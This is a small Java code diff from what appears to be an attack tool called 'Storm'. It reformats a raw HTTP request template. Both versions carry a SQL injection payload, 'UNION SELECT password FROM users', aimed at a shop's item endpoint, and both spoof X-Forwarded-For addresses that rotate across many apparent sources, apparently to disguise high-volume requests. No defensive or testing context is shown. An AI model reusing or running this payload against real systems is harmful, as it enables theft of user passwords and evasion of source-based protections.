@@ -88,8 +88,13 @@ final class Storm {
   }
 
   private byte[] request(long number) {
-    return ("GET /item?id=%d'+UNION+SELECT+password+FROM+users-- HTTP/1.1\r\nHost: shop\r\n"
-            + "User-Agent: Mozilla/5.0\r\nX-Forwarded-For: 198.51.100.%d\r\n\r\n")
+    return """
+    GET /item?id=%d'+UNION+SELECT+password+FROM+users-- HTTP/1.1\r
+    Host: shop\r
+    User-Agent: Mozilla/5.0\r
+    X-Forwarded-For: 198.51.100.%d\r
+    \r
+    """
         .formatted(number, 1 + number % sources)
         .getBytes(StandardCharsets.US_ASCII);
   }
